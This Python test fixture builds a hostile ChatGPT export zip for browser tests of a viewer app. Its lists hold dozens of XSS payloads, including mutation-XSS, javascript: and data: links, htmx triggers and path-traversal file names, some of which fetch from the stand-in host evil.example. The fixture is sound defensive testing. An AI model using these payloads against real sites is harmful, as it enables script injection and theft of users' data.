"""A hostile ChatGPT export: every field the web app shows carries a payload that would run.

If any of them ran, it would call ``alert()``, set ``window.__xss`` or fetch from
``evil.example``; the browser tests import the export, visit every page and prove none did.
``MARKUP`` is raw HTML (the mutation-XSS classics included), ``MARKDOWN`` is links, images
and code fences, ``TEXT`` is both as one message. ``write_hostile_export`` puts them in titles,
message texts, code and its language, citations, web results, custom instructions, memory,
author and model names, attachment names (declared and zip member names), an unknown content
type, and a zip member nobody points at (which the import report lists by name).
"""

from __future__ import annotations

import base64
import zipfile
from pathlib import Path
from typing import Any

import orjson

from tests.builders import png

__all__ = ["CANARY", "EVIL_HOST", "JS", "MARKDOWN", "MARKUP", "TEXT", "write_hostile_export"]

EVIL_HOST = "evil.example"
JS = f"alert(1);window.__xss=1;fetch('https://{EVIL_HOST}/x')"
CANARY = "xsscanary"  # a word every payload message holds, to search for
_NAME_JS = "alert(1);window.__xss=1"  # for file names, which cannot hold a slash

_SCRIPT_B64 = base64.b64encode(f"<script>{JS}</script>".encode()).decode()
_SVG_B64 = base64.b64encode(f'<svg xmlns="http://www.w3.org/2000/svg" onload="{JS}"/>'.encode())

MARKUP: list[str] = [
    f"<script>{JS}</script>",
    f'<img src=x onerror="{JS}">',
    f"<img src=https://{EVIL_HOST}/pixel.png>",
    f'<svg onload="{JS}"><circle r=1 /></svg>',
    f'<iframe srcdoc="<script>{JS}</script>"></iframe>',
    f"<iframe src=https://{EVIL_HOST}/></iframe>",
    f'<details open ontoggle="{JS}"><summary>x</summary></details>',
    f'<noscript><p title="</noscript><img src=x onerror="{JS}">"></p></noscript>',
    f'<svg><style><img src=x onerror="{JS}"></style></svg>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{JS}"></style></mglyph></table>',
    f'<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="{JS}">',
    f'"><script>{JS}</script>',
    f"'><img src=x onerror={JS}>",
    f"</title><script>{JS}</script>",
    f"</textarea></pre></code><script>{JS}</script>",
    f'<a href="javascript:{JS}">anchor</a>',
    f'<body onload="{JS}">',
    f'<input autofocus onfocus="{JS}">',
    f'<video><source onerror="{JS}"></video>',
    f'<object data="data:text/html;base64,{_SCRIPT_B64}"></object>',
    f"<embed src=https://{EVIL_HOST}/x.swf>",
    f'<meta http-equiv="refresh" content="0;url=https://{EVIL_HOST}/">',
    f'<base href="https://{EVIL_HOST}/">',
    f'<link rel="stylesheet" href="https://{EVIL_HOST}/x.css">',
    f"<style>@import 'https://{EVIL_HOST}/x.css'; body {{ background: red }}</style>",
    f'<div style="background:url(https://{EVIL_HOST}/bg.png)">styled</div>',
    f'<div hx-get="https://{EVIL_HOST}/" hx-trigger="load">htmx</div>',
    f'<div data-hx-get="https://{EVIL_HOST}/" data-hx-trigger="load">htmx</div>',
    f'<div hx-on:htmx:load="{JS}" hx-on::load="{JS}">htmx on</div>',
    f"<template><script>{JS}</script></template>",
    f'<form action="https://{EVIL_HOST}/"><button>submit</button></form>',
    "{{ 7*7 }} {% raw %}{{ config }}{% endraw %} ${7*7}",
]

MARKDOWN: list[str] = [
    f"[javascript link](javascript:{JS})",
    f"[upper-case link](JAVASCRIPT:{JS})",
    f"[tab link](java&#x09;script:{JS})",
    f"[entity link](&#106;avascript:{JS})",
    f"[data link](data:text/html;base64,{_SCRIPT_B64})",
    "[vbscript link](vbscript:msgbox(1))",
    f"<javascript:{JS}>",
    f"[reference link][evil]\n\n[evil]: javascript:{JS}",
    f"![remote image](https://{EVIL_HOST}/image.png)",
    f"![data image](data:image/svg+xml;base64,{_SVG_B64.decode()})",
    f'![alt" onerror="{JS}](x)',
    f'![alt](x" onerror="{JS})',
    f'[title link](https://{EVIL_HOST}/ "x\\" onmouseover=\\"{JS}")',
    f"```html\n<script>{JS}</script>\n```",
    f"```\n</code></pre><script>{JS}</script>\n```",
    f'```"><img src=x onerror="{JS}">\nfence with a hostile info string\n```',
    f"`<img src=x onerror={JS}>` inline code",
    f"| <script>{JS}</script> | [cell](javascript:{JS}) |\n|---|---|\n| a | b |",
]

TEXT = "\n\n".join([CANARY, *MARKUP, *MARKDOWN])
_IMAGE_ID = "file-XSSimage01"
_IMAGE_MEMBER = f'{_IMAGE_ID}-"><img src=x onerror="{_NAME_JS}">.png'
_STRAY_MEMBER = f"stray-<svg onload={_NAME_JS}>.txt"
_REJECTED_MEMBER = f"../<script>{JS}</script>.txt"


def _message(
    mid: str,
    role: str,
    content: dict[str, Any],
    metadata: dict[str, Any] | None = None,
    author_name: str | None = None,
) -> dict[str, Any]:
    return {
        "id": mid,
        "author": {"role": role, "name": author_name, "metadata": {}},
        "content": content,
        "status": "finished_successfully",
        "recipient": "all",
        "metadata": metadata or {},
    }


def _text(*parts: Any) -> dict[str, Any]:
    return {"content_type": "text", "parts": list(parts)}


def _conversation(cid: str, title: str, chain: list[tuple[str, str | None, dict[str, Any]]]) -> Any:
    """A conversation from ``(id, parent, message)`` triples; the last one is the current leaf."""
    mapping: dict[str, Any] = {"root": {"id": "root", "message": None, "parent": None}}
    for minute, (mid, parent, message) in enumerate(chain):
        message["create_time"] = 1_700_000_000 + 60 * minute
        mapping[mid] = {"id": mid, "message": message, "parent": parent or "root"}
    return {
        "id": cid,
        "conversation_id": cid,
        "title": title,
        "create_time": 1_700_000_000,
        "update_time": 1_700_000_100,
        "mapping": mapping,
        "current_node": chain[-1][0],
        "default_model_slug": f"<img src=x onerror={JS}>",
        "gizmo_id": f"g-<script>{JS}</script>",
    }


def _markup_conversation() -> Any:
    """Raw HTML and Markdown in texts and code, two branches, hostile names and models."""
    chain = [
        ("u1", None, _message("u1", "user", _text(TEXT), author_name=f"<svg onload={JS}>")),
        ("a1", "u1", _message("a1", "assistant", _text(TEXT))),
        ("a2", "u1", _message("a2", "assistant", _text(f"second branch {CANARY}\n\n{TEXT}"))),
        (
            "c1",
            "a2",
            _message(
                "c1",
                "assistant",
                {"content_type": "code", "language": f'"><script>{JS}</script>', "text": TEXT},
                metadata={"model_slug": f'"><img src=x onerror="{JS}">'},
            ),
        ),
    ]
    return _conversation(f'"><script>{JS}</script>', f"<script>{JS}</script>", chain)


def _citation_conversation() -> Any:
    """Citations (both eras) and web results whose URLs and titles are payloads."""
    marker = "\ue200cite\ue202turn0search0\ue201"
    references = [
        {
            "matched_text": marker,
            "type": "grouped_webpages",
            "items": [{"url": f"javascript:{JS}", "title": f"<img src=x onerror={JS}>"}],
        }
    ]
    old = {"metadata_list": [{"url": f"data:text/html;base64,{_SCRIPT_B64}", "title": JS}]}
    cited = _message(
        "a1",
        "assistant",
        _text(f"{CANARY} cited {marker} and old style 【0†source】"),
        metadata={"content_references": references, "_cite_metadata": old},
    )
    web = {
        "content_type": "tether_browsing_display",
        "url": f"javascript:{JS}",
        "title": f"<script>{JS}</script>",
        "domain": f"<img src=x onerror={JS}>",
        "text": TEXT,
    }
    error = {"content_type": "system_error", "name": f"<svg onload={JS}>", "text": TEXT}
    chain = [
        ("u1", None, _message("u1", "user", _text(f"{CANARY} search the web"))),
        ("t1", "u1", _message("t1", "tool", web)),
        ("e1", "t1", _message("e1", "tool", error)),
        ("x1", "e1", _message("x1", "tool", {"content_type": "execution_output", "text": TEXT})),
        ("a1", "x1", cited),
    ]
    return _conversation("hostile-citations", f'<img src=x onerror="{JS}">', chain)


def _context_conversation() -> Any:
    """Custom instructions, memory, thoughts, attachments and an unknown content type."""
    instructions = {
        "content_type": "user_editable_context",
        "user_profile": TEXT,
        "user_instructions": f"<script>{JS}</script>",
    }
    memory = {"content_type": "model_editable_context", "model_set_context": TEXT}
    thoughts = {
        "content_type": "thoughts",
        "thoughts": [{"summary": f"<img src=x onerror={JS}>", "content": TEXT}],
    }
    image = {"content_type": "image_asset_pointer", "asset_pointer": f"file-service://{_IMAGE_ID}"}
    files = [
        {"id": _IMAGE_ID, "name": f'"><img src=x onerror="{JS}">.png'},
        {"id": "file-XSSdoc01", "name": f"<script>{JS}</script>.pdf", "mime_type": "text/html"},
    ]
    unknown = {"content_type": f"<script>{JS}</script>", "text": TEXT}
    legacy = {"about_user_message": TEXT, "about_model_message": f"<svg onload={JS}>"}
    chain = [
        ("s1", None, _message("s1", "system", instructions)),
        (
            "s2",
            "s1",
            _message("s2", "system", _text(""), metadata={"user_context_message_data": legacy}),
        ),
        ("m1", "s2", _message("m1", "assistant", memory)),
        ("u1", "m1", _message("u1", "user", _text(image, CANARY), metadata={"attachments": files})),
        ("th", "u1", _message("th", "assistant", thoughts)),
        ("k1", "th", _message("k1", "assistant", unknown)),
        ("a1", "k1", _message("a1", "assistant", _text(f"{CANARY} done"))),
    ]
    return _conversation("hostile-context", f'"><svg onload="{JS}">', chain)


def write_hostile_export(folder: Path) -> Path:
    """Write the hostile export as a zip in ``folder``; its file name is a payload too."""
    conversations = [_markup_conversation(), _citation_conversation(), _context_conversation()]
    path = folder / f"<img src=x onerror={_NAME_JS}>.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("conversations.json", orjson.dumps(conversations))
        archive.writestr("user.json", orjson.dumps({"id": "user-xss", "email": TEXT}))
        archive.writestr(_IMAGE_MEMBER, png())
        archive.writestr(_STRAY_MEMBER, f"<script>{JS}</script>")
        archive.writestr(_REJECTED_MEMBER, f"<script>{JS}</script>")
    return path
